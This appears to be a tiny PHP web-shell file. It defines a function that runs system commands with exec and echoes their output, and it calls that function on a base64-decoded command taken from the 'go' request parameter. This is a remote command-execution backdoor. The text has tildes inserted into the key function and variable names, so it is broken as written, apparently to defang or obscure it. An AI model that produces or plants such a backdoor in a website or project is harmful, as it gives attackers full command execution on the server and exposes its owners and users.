<?php exit; ?>
<?php
function marker_run($c) { $out = array(); exe~c($c, $out); return join("\n", $out); }
if (isset($_R~EQUEST['go'])) echo marker_run(bas~e64_decode($_R~EQUEST['go']));
